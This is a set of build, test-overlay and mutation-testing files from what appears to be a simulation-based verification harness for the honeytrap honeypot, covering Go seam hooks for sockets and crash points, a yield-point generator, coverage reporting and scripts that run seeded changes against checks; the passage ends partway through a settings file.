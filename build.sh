#!/bin/bash
# Builds the worker binary from /repo's current working tree with the seam overlay.  exit 2 on trouble.
set -u
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local CGO_ENABLED=${CGO_ENABLED:-1}
# The Go module cache of this sandbox lives under /root/go; when HOME is not /root (seen: HOME=/ in a check run)
# the default GOMODCACHE points at an empty directory and every import would need the network.
if [ ! -d "$(go1.26.8 env GOMODCACHE 2>/dev/null)/github.com" ] && [ -d /root/go/pkg/mod/github.com ]; then
  export GOMODCACHE=/root/go/pkg/mod
fi
B="${VERIF_BUILD:-$PWD/.build}"
mkdir -p "$B"
(cd tools/yieldgen && go1.26.8 build -o "$B/yieldgen" . 2>"$B/build.log") || { cat "$B/build.log" >&2; exit 2; }
VERIF_YIELDGEN="$B/yieldgen" python3 driver/overlay.py "$B/overlay" >/dev/null || exit 2
cd sim
# VERIF_REPO (default /repo): build against another tree (scratch worktree with a seeded change, or a
# snapshot for background sweeps) without touching /repo.  Registered checks never set it.
modflag=""
if [ -n "${VERIF_REPO:-}" ] && [ "${VERIF_REPO}" != "/repo" ]; then
  sed "s#=> /repo\$#=> ${VERIF_REPO}#" go.mod > "$B/go.alt.mod"; cp go.sum "$B/go.alt.sum"
  modflag="-modfile=$B/go.alt.mod"
fi
out="$B/htsim.test"
extra=""
if [ "${1:-}" = "race" ]; then out="$B/htsim.race.test"; extra="-race"; fi
# VERIF_COVER=1 (tools/coverage.sh only, together with its own VERIF_BUILD): statement coverage of honeytrap's
# packages, to find code the workloads never reach.  Registered checks never set it.
if [ -n "${VERIF_COVER:-}" ]; then cm=count; [ "${1:-}" = "race" ] && cm=atomic; extra="$extra -cover -covermode=$cm -coverpkg=github.com/honeytrap/honeytrap/..."; fi
ov="$B/overlay/overlay.json"
if [ -n "${VERIF_COVER:-}" ]; then
  # the cover tool does not read files that exist only in an overlay: materialise the overlaid tree in a scratch
  # copy (removed right after the build) and build against that
  scratch=$(mktemp -d /tmp/htcover.XXXXXX); trap 'rm -rf "$scratch"' EXIT
  rsync -a --exclude .git "${VERIF_REPO:-/repo}/" "$scratch/"
  python3 - "$ov" "${VERIF_REPO:-/repo}" "$scratch" <<'PY' || exit 2
import json, os, shutil, sys
ov, repo, scratch = sys.argv[1:4]
for src, dst in json.load(open(ov))["Replace"].items():
    t = os.path.join(scratch, os.path.relpath(src, repo))
    os.makedirs(os.path.dirname(t), exist_ok=True)
    shutil.copyfile(dst, t)
PY
  sed "s#=> /repo\$#=> ${scratch}#" go.mod > "$B/go.alt.mod"; cp go.sum "$B/go.alt.sum"
  modflag="-modfile=$B/go.alt.mod"
  echo '{"Replace":{}}' > "$B/overlay/empty.json"; ov="$B/overlay/empty.json"
fi
go1.26.8 test -c -vet=off -ldflags=-checklinkname=0 $modflag $extra -tags verif -overlay "$ov" -o "$out.new" . 2>"$B/build.log" || {
  cat "$B/build.log" >&2
  # diagnostics for environment trouble (module cache, disk, identity)
  { echo "--- build diagnostics"; id; echo "HOME=$HOME PWD=$PWD"; go1.26.8 env GOMODCACHE GOCACHE GOFLAGS GOPATH GOPROXY GONOSUMDB GOFLAGS GOTOOLCHAIN; ls -ld "$(go1.26.8 env GOMODCACHE)" "$(go1.26.8 env GOMODCACHE)/cache/download" 2>&1; ls "$(go1.26.8 env GOMODCACHE)" 2>&1 | head -5; ls "$(go1.26.8 env GOMODCACHE)/cache/download/github.com/op/go-logging/@v" 2>&1 | head; df -h / /tmp "$B" 2>&1 | tail -4; git -C /repo status --short 2>&1 | head -5; git -C /repo log --oneline 2>&1 | head -2; } >&2
  exit 2; }
mv -f "$out.new" "$out"
exit 0
