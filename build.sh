#!/bin/bash
# Builds the worker binary from /repo's current working tree with the seam overlay.  exit 2 on trouble.
set -u
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local CGO_ENABLED=${CGO_ENABLED:-1}
mkdir -p .build
python3 driver/overlay.py "$PWD/.build/overlay" >/dev/null || exit 2
cd sim
out=../.build/htsim.test
extra=""
if [ "${1:-}" = "race" ]; then out=../.build/htsim.race.test; extra="-race"; fi
go1.26.8 test -c $extra -tags verif -overlay ../.build/overlay/overlay.json -o $out . 2>../.build/build.log || { cat ../.build/build.log >&2; exit 2; }
exit 0
