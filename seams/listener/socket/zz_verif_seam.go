//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package network

import "net"

// VerifUDPSocket is what socketListener needs from a UDP socket.
type VerifUDPSocket interface {
	ReadFromUDP(b []byte) (int, *net.UDPAddr, error)
	WriteToUDP(b []byte, addr *net.UDPAddr) (int, error)
	LocalAddr() net.Addr
}

// VerifListen / VerifListenUDP default to the operating system; the simulator replaces them.
var VerifListen = net.Listen

var VerifListenUDP = func(network string, laddr *net.UDPAddr) (VerifUDPSocket, error) {
	c, err := net.ListenUDP(network, laddr)
	if err != nil {
		return nil, err
	}
	return c, nil
}
