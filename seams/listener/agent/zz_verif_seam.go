//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package agent

import "github.com/mimoo/disco/libdisco"

// VerifListen defaults to the operating system; the simulator replaces it with a listener of the
// simulated kernel wrapped in the real libdisco server.
var VerifListen = libdisco.Listen
