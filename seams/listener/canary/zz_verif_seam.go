//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package canary

import (
	"net"
	"syscall"
)

// VerifSyscalls is the slice of the operating system the raw listener talks to.
type VerifSyscalls interface {
	EpollCreate1(flag int) (int, error)
	EpollCtl(epfd int, op int, fd int, event *syscall.EpollEvent) error
	EpollWait(epfd int, events []syscall.EpollEvent, msec int) (int, error)
	Socket(domain, typ, proto int) (int, error)
	Close(fd int) error
	Sendto(fd int, p []byte, flags int, to syscall.Sockaddr) error
	Recvfrom(fd int, p []byte, flags int) (int, syscall.Sockaddr, error)
	GetsockoptInt(fd, level, opt int) (int, error)
}

type verifRealSyscalls struct{}

func (verifRealSyscalls) EpollCreate1(flag int) (int, error) { return syscall.EpollCreate1(flag) }
func (verifRealSyscalls) EpollCtl(epfd int, op int, fd int, event *syscall.EpollEvent) error {
	return syscall.EpollCtl(epfd, op, fd, event)
}
func (verifRealSyscalls) EpollWait(epfd int, events []syscall.EpollEvent, msec int) (int, error) {
	return syscall.EpollWait(epfd, events, msec)
}
func (verifRealSyscalls) Socket(domain, typ, proto int) (int, error) {
	return syscall.Socket(domain, typ, proto)
}
func (verifRealSyscalls) Close(fd int) error { return syscall.Close(fd) }
func (verifRealSyscalls) Sendto(fd int, p []byte, flags int, to syscall.Sockaddr) error {
	return syscall.Sendto(fd, p, flags, to)
}
func (verifRealSyscalls) Recvfrom(fd int, p []byte, flags int) (int, syscall.Sockaddr, error) {
	return syscall.Recvfrom(fd, p, flags)
}
func (verifRealSyscalls) GetsockoptInt(fd, level, opt int) (int, error) {
	return syscall.GetsockoptInt(fd, level, opt)
}

// The defaults are the operating system; the simulator replaces them.
var (
	VerifSys             VerifSyscalls = verifRealSyscalls{}
	VerifRoutePath                     = "/proc/net/route"
	VerifARPPath                       = "/proc/net/arp"
	VerifInterfaceByName               = net.InterfaceByName
)
