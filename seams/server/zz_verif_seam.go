//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package server

import "os"

func verifCrashPoint(name string) {
	if os.Getenv("VERIF_CRASH_AT") == name {
		os.Exit(137)
	}
}

// VerifWriteFile is ioutil.WriteFile with the instants at which a kill can interrupt it made
// explicit: before the file exists, after it has been created empty, after the data is in.
func VerifWriteFile(name string, data []byte, perm os.FileMode) error {
	verifCrashPoint("token:before-create")
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, perm)
	if err != nil {
		return err
	}
	verifCrashPoint("token:created-empty")
	_, err = f.Write(data)
	if err1 := f.Close(); err1 != nil && err == nil {
		err = err1
	}
	verifCrashPoint("token:written")
	return err
}

// The other ways a token writer can be spelled (a refactoring of options.go must not leave the check without its
// crash points): each call gets the instants before and after it.

func VerifOpenFile(name string, flag int, perm os.FileMode) (*os.File, error) {
	verifCrashPoint("token:before-open")
	f, err := os.OpenFile(name, flag, perm)
	verifCrashPoint("token:after-open")
	return f, err
}

func VerifCreate(name string) (*os.File, error) {
	verifCrashPoint("token:before-open")
	f, err := os.Create(name)
	verifCrashPoint("token:after-open")
	return f, err
}

func VerifRename(oldpath, newpath string) error {
	verifCrashPoint("token:before-rename")
	err := os.Rename(oldpath, newpath)
	verifCrashPoint("token:after-rename")
	return err
}
