//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package server

import "os"

func verifCrashPoint(name string) {
	if os.Getenv("VERIF_CRASH_AT") == name {
		os.Exit(137)
	}
}

// VerifWriteFile is ioutil.WriteFile with the instants at which a kill can interrupt it made
// explicit: before the file exists, after it has been created empty, after the data is in.
func VerifWriteFile(name string, data []byte, perm os.FileMode) error {
	verifCrashPoint("token:before-create")
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, perm)
	if err != nil {
		return err
	}
	verifCrashPoint("token:created-empty")
	_, err = f.Write(data)
	if err1 := f.Close(); err1 != nil && err == nil {
		err = err1
	}
	verifCrashPoint("token:written")
	return err
}
