// Package verifyield exists only in check builds (added to the honeytrap module through `go build -overlay`).
package verifyield

// Hook is installed by the simulator for runs that explore interleavings at synchronisation points.
var Hook func()

// Yield is called before statements that use a synchronisation primitive (inserted by tools/yieldgen).
func Yield() {
	if h := Hook; h != nil {
		h()
	}
}
