//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package forward

import "net"

var VerifDial = net.Dial
