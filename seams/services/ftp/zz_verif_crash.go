//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package ftp

import "os"

// verifCrashPoint ends the process at once, without running deferred functions, when the named crash
// point is the one armed through the environment (C18: a kill during start-up).
func verifCrashPoint(name string) {
	if os.Getenv("VERIF_CRASH_AT") == name {
		os.Exit(137)
	}
}

type verifSetter interface {
	Set(string, []byte) error
}

// VerifSet wraps a store write with crash points before and after it.
func VerifSet(s verifSetter, key string, data []byte) error {
	verifCrashPoint("ftp:before-set:" + key)
	err := s.Set(key, data)
	verifCrashPoint("ftp:after-set:" + key)
	return err
}
