//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package ftp

import "net"

var VerifListenTCP = func(network string, laddr *net.TCPAddr) (net.Listener, error) {
	l, err := net.ListenTCP(network, laddr)
	if err != nil {
		return nil, err
	}
	return l, nil
}

var VerifDialTCP = net.DialTCP

// VerifDialConn: the active-mode dial when the socket's connection field could be widened to net.Conn (see
// driver/overlay.py); the simulation routes it to the simulated kernel.
var VerifDialConn = func(network string, laddr, raddr *net.TCPAddr) (net.Conn, error) {
	c, err := net.DialTCP(network, laddr, raddr)
	if err != nil {
		return nil, err
	}
	return c, nil
}

// VerifResolveTCPAddr replaces net.ResolveTCPAddr: inside the simulation there is no resolver - a host that is
// not an IP literal (a client can put anything into a PORT command) fails like an unknown name would, at once,
// instead of starting a real DNS lookup from inside the bubble.
var VerifResolveTCPAddr = func(network, address string) (*net.TCPAddr, error) {
	host, _, err := net.SplitHostPort(address)
	if err != nil {
		return nil, err
	}
	if host != "" && net.ParseIP(host) == nil {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return net.ResolveTCPAddr(network, address)
}
