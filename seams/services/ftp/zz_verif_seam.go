//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package ftp

import "net"

var VerifListenTCP = func(network string, laddr *net.TCPAddr) (net.Listener, error) {
	l, err := net.ListenTCP(network, laddr)
	if err != nil {
		return nil, err
	}
	return l, nil
}

var VerifDialTCP = net.DialTCP
