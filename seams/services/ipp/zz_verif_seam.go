//go:build verif

// Added to the package at check-build time through `go build -overlay`; never present in /repo.
package ipp

var verifModelLen = -1

// VerifResetModel drops the printer-name entries that every construction of the service appends to
// the package-global printer model, so that several simulated servers in one worker process do not
// see each other's printers (a real process constructs its services once).
func VerifResetModel() {
	if verifModelLen < 0 {
		verifModelLen = len(model.val)
	}
	model.val = model.val[:verifModelLen]
}
