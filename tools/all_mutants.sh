#!/bin/bash
# tools/all_mutants.sh [parallel]: sensitivity self-test - every seeded change against the quick check(s) recorded
# in its meta.json, in throw-away worktrees; prints one line per change and a summary.
cd "$(dirname "$0")/.."
par="${1:-4}"
out=/tmp/mutwt/regress; rm -rf $out; mkdir -p $out
run_one() {
  d="$1"; id=$(basename "$d")
  checks=$(python3 -c "import json;print(json.load(open('$d/meta.json')).get('checks','').replace(',',' '))")
  [ -z "$checks" ] && checks="${id%%-*}"
  res="MISSED"
  # a change recorded as outside the simulated world (meta.json "expected": "not-caught") is listed, not counted as a regression
  if [ "$(python3 -c "import json;print(json.load(open('$d/meta.json')).get('expected',''))")" = "not-caught" ]; then res="NOT-CAUGHT (recorded as outside the simulated world)"; fi
  for c in $checks; do
    tools/try_mutant_wt.sh "$d/patch.diff" "$c" quick > "$out/$id.$c.log" 2>&1; rc=$?
    if [ $rc -eq 1 ]; then res="caught by $c: $(grep -m1 -o 'kind=[^ ]*' $out/$id.$c.log)"; break; fi
    if [ $rc -eq 2 ]; then res="INFRA ($c)"; fi
  done
  echo "$id $res"
}
export -f run_one; export out
ls -d seeded/*/ | sed 's#/$##' | xargs -P "$par" -I{} bash -c 'run_one {}' | sort | tee $out/summary.txt
echo "caught: $(grep -c 'caught' $out/summary.txt) of $(wc -l < $out/summary.txt)"
