#!/bin/bash
# runs every registered quick check on the current tree; prints one line per check
cd "$(dirname "$0")/.."
for id in $(python3 -c "import json; print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))"); do
  s=$(date +%s); out=$(./run.sh $id quick 2>&1); rc=$?; e=$(date +%s)
  echo "$id rc=$rc $((e-s))s $(echo "$out" | grep -c '^VIOLATION') violations, $(echo "$out" | grep -c '^KNOWN-FINDING') known :: $(echo "$out" | grep "$id quick:" | cut -c1-150)"
done
