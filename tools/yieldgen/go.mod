module yieldgen

go 1.26.8
