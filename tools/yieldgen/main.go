// yieldgen inserts cooperative yield points into honeytrap source files at check-build time (the results are
// only used through `go build -overlay`; /repo is never modified).
//
//	yieldgen <out-dir> <src-file>=<package-relative-name> ...
//
// Before every statement that calls a synchronisation primitive by name (Lock, RLock, sync.Map's Load / Store /
// LoadOrStore / LoadAndDelete / CompareAndSwap / Swap), writes to a connection (Write) or sends on a channel, a call `verifyield.Yield()` is
// inserted and the import added.  With no hook installed Yield does nothing; the simulator installs a hook that
// calls runtime.Gosched() when its seeded choice stream says so, which lets another handler released in the same
// step run between, say, a Load that missed and the Store that follows.
package main

import (
	"bytes"
	"fmt"
	"go/ast"
	"go/format"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strings"
)

const importPath = "github.com/honeytrap/honeytrap/verifyield"

var names = map[string]bool{"Lock": true, "RLock": true, "Load": true, "Store": true, "LoadOrStore": true, "LoadAndDelete": true, "CompareAndSwap": true, "Swap": true, "Write": true,
	// blocking points of a handler: before it reads, closes or sends a request, others get a turn
	"Read": true, "Close": true, "CloseWrite": true, "SendRequest": true, "Reply": true}

// callsSync: the expression (not descending into function literals) contains a call to one of the names.
func callsSync(n ast.Node) bool {
	found := false
	ast.Inspect(n, func(x ast.Node) bool {
		if x == nil || found {
			return false
		}
		switch v := x.(type) {
		case *ast.FuncLit:
			return false
		case *ast.CallExpr:
			if sel, ok := v.Fun.(*ast.SelectorExpr); ok && names[sel.Sel.Name] {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

func needsYield(s ast.Stmt) bool {
	switch v := s.(type) {
	case *ast.ExprStmt:
		return callsSync(v.X)
	case *ast.AssignStmt:
		for _, e := range v.Rhs {
			if callsSync(e) {
				return true
			}
		}
	case *ast.IfStmt:
		if v.Init != nil && needsYield(v.Init) {
			return true
		}
		return v.Cond != nil && callsSync(v.Cond)
	case *ast.ReturnStmt:
		for _, e := range v.Results {
			if callsSync(e) {
				return true
			}
		}
	case *ast.SendStmt:
		return true
	case *ast.DeclStmt:
		return callsSync(v)
	}
	return false
}

func yieldStmt() ast.Stmt {
	return &ast.ExprStmt{X: &ast.CallExpr{Fun: &ast.SelectorExpr{X: ast.NewIdent("verifyield"), Sel: ast.NewIdent("Yield")}}}
}

func instrumentList(list []ast.Stmt, count *int) []ast.Stmt {
	var out []ast.Stmt
	for _, s := range list {
		if needsYield(s) {
			out = append(out, yieldStmt())
			*count++
		}
		out = append(out, s)
	}
	return out
}

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: yieldgen <out-dir> <src>=<name> ...")
		os.Exit(2)
	}
	outDir := os.Args[1]
	for _, arg := range os.Args[2:] {
		parts := strings.SplitN(arg, "=", 2)
		src, name := parts[0], parts[1]
		fset := token.NewFileSet()
		f, err := parser.ParseFile(fset, src, nil, parser.ParseComments)
		if err != nil {
			fmt.Fprintln(os.Stderr, "yieldgen:", err)
			os.Exit(2)
		}
		count := 0
		ast.Inspect(f, func(n ast.Node) bool {
			switch v := n.(type) {
			case *ast.BlockStmt:
				v.List = instrumentList(v.List, &count)
			case *ast.CaseClause:
				v.Body = instrumentList(v.Body, &count)
			case *ast.CommClause:
				v.Body = instrumentList(v.Body, &count)
			}
			return true
		})
		if count == 0 {
			continue // untouched files are not part of the overlay
		}
		// add the import (as the first declaration; gofmt keeps it valid)
		imp := &ast.GenDecl{Tok: token.IMPORT, Specs: []ast.Spec{&ast.ImportSpec{Path: &ast.BasicLit{Kind: token.STRING, Value: `"` + importPath + `"`}}}}
		f.Decls = append([]ast.Decl{imp}, f.Decls...)
		var buf bytes.Buffer
		if err := format.Node(&buf, fset, f); err != nil {
			fmt.Fprintln(os.Stderr, "yieldgen: format", src, err)
			os.Exit(2)
		}
		dst := filepath.Join(outDir, name)
		if err := os.WriteFile(dst, buf.Bytes(), 0644); err != nil {
			fmt.Fprintln(os.Stderr, "yieldgen:", err)
			os.Exit(2)
		}
		fmt.Printf("%s\t%s\t%d\n", src, dst, count)
	}
}
