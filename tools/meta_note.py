#!/usr/bin/env python3
"""tools/meta_note.py <seeded-id> <checks> <detected_by text> — record which check catches a seeded change"""
import json, sys
d = "/verif/seeded/%s/meta.json" % sys.argv[1]
m = json.load(open(d))
m["checks"] = sys.argv[2]
m["detected_by"] = sys.argv[3]
json.dump(m, open(d, "w"), indent=1)
