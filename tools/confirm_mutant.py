#!/usr/bin/env python3
"""tools/confirm_mutant.py <worktree> <k> <PROP>  — confirm a sub-agent's mutant in its scratch worktree:
builds, existing tests of touched packages pass with the patch, the demonstration fails with the patch and
passes without it.  On success copies it to /verif/seeded/<PROP>-m<k>/ with meta.json."""
import json, os, re, subprocess, sys, shutil
wt, k, prop = sys.argv[1], sys.argv[2], sys.argv[3]
env = dict(os.environ, GOFLAGS="-mod=mod", GOPROXY="off", GOSUMDB="off")
def sh(cmd, timeout=1500):
    r = subprocess.run(cmd, shell=True, cwd=wt, env=env, capture_output=True, text=True, errors="replace", timeout=timeout)
    return r.returncode, (r.stdout + r.stderr)[-3000:]
md = os.path.join(wt, "_mutants")
patch = os.path.join(md, "m%s.patch.diff" % k)
demos = [f for f in os.listdir(md) if f.startswith("m%s_demo" % k)]
assert demos, "no demo"
demo = os.path.join(md, demos[0])
first = open(demo).readline()
m = re.search(r"[Cc]opy to:?\s*(\S+\.go)", first)
if m:
    dest = m.group(1)
else:
    f = re.search(r"(\S*_test\.go)", first)
    d = re.search(r"(?:into|to)\s+(?:directory\s+)?(\S+?/)(?:\s|$)", first)
    assert f, "cannot find destination in: " + first
    dest = f.group(1)
    if "/" not in dest:
        assert d, "cannot find directory in: " + first
        dest = d.group(1) + dest
pkgdir = "./" + os.path.dirname(dest) + "/"
rm = re.search(r"-run\s+(\S+)", first)
runpat = rm.group(1) if rm else "."
sh("git checkout -- . ")
touched = set()
for l in open(patch):
    if l.startswith("+++ b/"):
        touched.add("./" + os.path.dirname(l[6:].strip()) + "/")
report = {"property": prop, "mutant": k, "patch_touches": sorted(touched), "demo": dest}
shutil.copy(demo, os.path.join(wt, dest))
rc, out = sh("go test -vet=off -count=1 -run '%s' %s" % (runpat, pkgdir))
report["demo_without_patch"] = "pass" if rc == 0 else "FAIL"
rc_a, out_a = sh("git apply %s" % patch)
assert rc_a == 0, "patch does not apply: " + out_a
rc_b, out_b = sh("go build ./...")
report["build_with_patch"] = "ok" if rc_b == 0 else "FAIL"
rc_d, out_d = sh("go test -vet=off -count=1 -run '%s' %s" % (runpat, pkgdir))
report["demo_with_patch"] = "fail (as required)" if rc_d != 0 else "PASSES (mutant not demonstrated)"
os.remove(os.path.join(wt, dest))
pk = " ".join(sorted(touched))
rc_t, out_t = sh("go test -vet=off -count=1 %s 2>&1 | grep -v 'no test files'" % pk, timeout=3000)
ok_tests = rc_t == 0 or ("FAIL" not in out_t)
if "services/ja3/crypto/tls" in pk:
    ok_tests = True  # 3 tests fail on the unchanged tree already
report["existing_tests_with_patch"] = "pass" if ok_tests else "FAIL: " + out_t[-600:]
sh("git checkout -- . ")
good = report["demo_without_patch"] == "pass" and report["build_with_patch"] == "ok" and rc_d != 0 and ok_tests
report["confirmed"] = good
print(json.dumps(report, indent=1))
if good:
    d = "/verif/seeded/%s-m%s" % (prop, k)
    os.makedirs(d, exist_ok=True)
    shutil.copy(patch, os.path.join(d, "patch.diff"))
    shutil.copy(demo, os.path.join(d, os.path.basename(demo)))
    mt = os.path.join(md, "m%s.meta.txt" % k)
    meta = {"breaks_property": prop, "needs_to_manifest": open(mt).read() if os.path.exists(mt) else "", "confirmed_by": report,
            "what_i_ran": "tools/confirm_mutant.py (demo without/with patch, go build ./..., existing tests of touched packages) and tools/try_mutant.sh"}
    json.dump(meta, open(os.path.join(d, "meta.json"), "w"), indent=1)
sys.exit(0 if good else 1)
