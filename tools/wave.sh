#!/bin/bash
# tools/wave.sh <PROP> <k>... : confirm sub-agent mutants in /tmp/mut/<PROP> and run the property's quick check on each
prop="$1"; shift
cd "$(dirname "$0")/.."
for k in "$@"; do
  python3 tools/confirm_mutant.py /tmp/mut/$prop $k $prop > /tmp/mut/$prop/_mutants/confirm$k.json 2>&1; rc=$?
  echo "confirm $prop m$k rc=$rc: $(grep -E '"(demo_without_patch|demo_with_patch|build_with_patch|existing_tests_with_patch|confirmed)"' /tmp/mut/$prop/_mutants/confirm$k.json | tr -d '\n' | cut -c1-400)"
done
for k in "$@"; do
  [ -f seeded/$prop-m$k/patch.diff ] && tools/try_mutant_wt.sh seeded/$prop-m$k/patch.diff $prop quick 2>&1 | tail -6 &
done
wait
