#!/bin/bash
# tools/try_mutant_wt.sh <patch.diff> <PROP> [tier]
# Runs a check against a seeded change WITHOUT touching /repo: the patch is applied to a throw-away git
# worktree of /repo's HEAD under /tmp, the worker is built from that tree (VERIF_REPO), evidence/replays go to
# a scratch output dir.  Safe to run several at once and while background sweeps build from /repo.
# (tools/try_mutant.sh is the apply-to-/repo variant.)
set -u
patch="$(readlink -f "$1")"; prop="$2"; tier="${3:-quick}"
cd "$(dirname "$0")/.."
tag="$(basename "$(dirname "$patch")")-$prop-$$"
wt="/tmp/mutwt/$tag"
mkdir -p /tmp/mutwt
git -C /repo worktree add --detach "$wt" HEAD -q || { echo "cannot create worktree"; exit 3; }
cleanup() { git -C /repo worktree remove --force "$wt" 2>/dev/null; rm -rf "/tmp/mutwt/$tag.build" ; }
trap cleanup EXIT
git -C "$wt" apply "$patch" || { echo "patch does not apply"; exit 3; }
export VERIF_REPO="$wt" VERIF_BUILD="/tmp/mutwt/$tag.build" VERIF_OUT_DIR="/tmp/mutwt/$tag.out"
mkdir -p "$VERIF_OUT_DIR"
./run.sh "$prop" "$tier" > "/tmp/mutwt/$tag.log" 2>&1; rc=$?
grep -E "^(VIOLATION|KNOWN-FINDING|INFRA)|$prop $tier:" "/tmp/mutwt/$tag.log" | cut -c1-400
echo "mutant $patch on $prop $tier: exit $rc (log /tmp/mutwt/$tag.log, out $VERIF_OUT_DIR)"
exit $rc
