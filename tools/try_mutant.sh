#!/bin/bash
# tools/try_mutant.sh <patch.diff> <PROP> [tier]  — apply a seeded change to /repo, run the check, undo.
# Output (evidence, replays, build) goes to /tmp/mutrun so that the real files are untouched.
set -u
patch="$1"; prop="$2"; tier="${3:-quick}"
cd "$(dirname "$0")/.."
if ! git -C /repo diff --quiet; then echo "/repo is dirty, refusing"; exit 3; fi
git -C /repo apply "$patch" || { echo "patch does not apply"; exit 3; }
export VERIF_BUILD=/tmp/mutrun/build VERIF_OUT_DIR=/tmp/mutrun/out
mkdir -p /tmp/mutrun/out
./run.sh "$prop" "$tier"; rc=$?
git -C /repo checkout -- .
git -C /repo status --short | grep -v '^??' && echo "WARNING: /repo not clean"
echo "mutant $patch on $prop: exit $rc"
exit $rc
