#!/usr/bin/env python3
"""Merges the workers' cover profiles and prints, per honeytrap source file, the statements the simulated
workloads reached, and for the files the properties are anchored in the blocks never reached (with their text)."""
import collections, glob, json, os, sys

covdir, overlay = sys.argv[1], sys.argv[2]
VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
MOD = "github.com/honeytrap/honeytrap/"
repl = {}
try:
    repl = json.load(open(overlay))["Replace"]
except Exception:
    pass
blocks = collections.defaultdict(lambda: [0, 0])  # (file, span) -> [stmts, count]
for f in glob.glob(os.path.join(covdir, "*.cov")):
    for line in open(f):
        if line.startswith("mode:"):
            continue
        try:
            loc, n, c = line.rsplit(" ", 2)
        except ValueError:
            continue
        b = blocks[loc]
        b[0] = int(n)
        b[1] += int(c)
per = collections.defaultdict(lambda: [0, 0, []])
for loc, (n, c) in blocks.items():
    fn, span = loc.rsplit(":", 1)
    p = per[fn]
    p[0] += n
    if c > 0:
        p[1] += n
    else:
        p[2].append(span)
anch = set()
for l in open(os.path.join(VERIF, "properties.jsonl")):
    for f in json.loads(l).get("anchors", {}).get("files", []):
        anch.add(f)
tot = sum(p[0] for p in per.values())
cov = sum(p[1] for p in per.values())
print("profiles: %d   statements reached: %d of %d (%.1f%%)" % (len(glob.glob(os.path.join(covdir, "*.cov"))), cov, tot, 100.0 * cov / max(1, tot)))
print()
print("%-62s %6s %6s %6s  anchored" % ("file", "stmts", "hit", "%"))
for fn in sorted(per):
    if not fn.startswith(MOD):
        continue
    rel = fn[len(MOD):]
    p = per[fn]
    print("%-62s %6d %6d %5.1f%%  %s" % (rel, p[0], p[1], 100.0 * p[1] / max(1, p[0]), "*" if rel in anch else ""))
print()
print("== blocks never reached in anchored files")
for fn in sorted(per):
    rel = fn[len(MOD):] if fn.startswith(MOD) else None
    if rel not in anch:
        continue
    src = os.path.join("/repo", rel)
    src = repl.get(src, src)
    try:
        lines = open(src, encoding="utf-8", errors="replace").read().split("\n")
    except OSError:
        continue
    spans = []
    for s in per[fn][2]:
        a, b = s.split(",")
        spans.append((int(a.split(".")[0]), int(b.split(".")[0])))
    spans.sort()
    if not spans:
        continue
    print("--- %s (%d unreached blocks)" % (rel, len(spans)))
    for a, b in spans:
        text = " | ".join(x.strip() for x in lines[a - 1:min(b, a + 3)] if x.strip() and "verifyield.Yield()" not in x)
        print("  %4d-%-4d %s" % (a, b, text[:170]))
