#!/bin/bash
# Statement coverage of honeytrap's own packages under the simulated workloads: which code of the files a
# property is anchored in do the generators never reach?  A reach measure, not a check: nothing registered in
# MANIFEST.json uses it.  usage: tools/coverage.sh [quick|thorough] [PROP ...]   -> .build-cover/report.txt
cd "$(dirname "$0")/.."
tier=${1:-quick}; shift
props=${*:-C01 C02 C03 C04 C05 C06 C07 C08 C09 C10 C11 C12 C13 C14 C15 C16 C18 C19 C20}
export VERIF_BUILD=$PWD/.build-cover VERIF_COVER=1 VERIF_OUT_DIR=$PWD/.build-cover/out
export VERIF_COVERDIR=$VERIF_BUILD/cov
rm -rf "$VERIF_COVERDIR" "$VERIF_OUT_DIR"; mkdir -p "$VERIF_COVERDIR" "$VERIF_OUT_DIR/evidence"
for p in $props; do
  ./run.sh $p $tier >"$VERIF_BUILD/$p.log" 2>&1; echo "$p rc=$?"
done
python3 tools/cover_report.py "$VERIF_COVERDIR" "$VERIF_BUILD/overlay/overlay.json" > "$VERIF_BUILD/report.txt"
head -80 "$VERIF_BUILD/report.txt"
