#!/bin/bash
# Offline setup after a fresh restore: build the worker binary and the data-dir template.
cd "$(dirname "$0")"
./build.sh || exit 2
python3 - <<'PY'
import sys
sys.path.insert(0, "driver")
import run
run.ensure_template()
PY
