"""Per-property settings of the driver: budgets, evidence texts."""

COMMON_COMPONENTS = {
    "real": ["server.New/Run/handle/findService/peek+timeout wrappers", "event + pushers bus/filter/token chain",
             "listener/socket (over the simulated kernel)", "storage+badger (opened outside the bubble)"],
    "simulated": ["kernel TCP/UDP sockets (simnet)", "clock and timers (testing/synctest bubble)", "remote peers (scripted actors)"],
    "stub": ["capture channel (records events after the real filter chain)"],
}

def comp(real=(), stub=(), simulated=()):
    c = {k: list(v) for k, v in COMMON_COMPONENTS.items()}
    c["real"] += list(real)
    c["stub"] += list(stub)
    c["simulated"] += list(simulated)
    return c

P = {
    "C04": {
        "runs": {"quick": 4000, "thorough": 400000},
        "budget_s": {"quick": 150, "thorough": 3000},
        "rule": "one scenario = one generated dialogue (grammar-derived commands with scenario-unique tags) delivered under a seeded segmentation/pipelining/idle-gap choice, run twice in fresh simulated servers (as generated and as the one-command-per-segment lock-step baseline); distinct = distinct digest of the full step trace + event list + client transcript; non-trivial = the delivery contains at least one cut inside a command or two commands sharing a segment",
        "components": comp(real=["services ftp, smtp, redis, memcached, telnet, http (real handlers)"]),
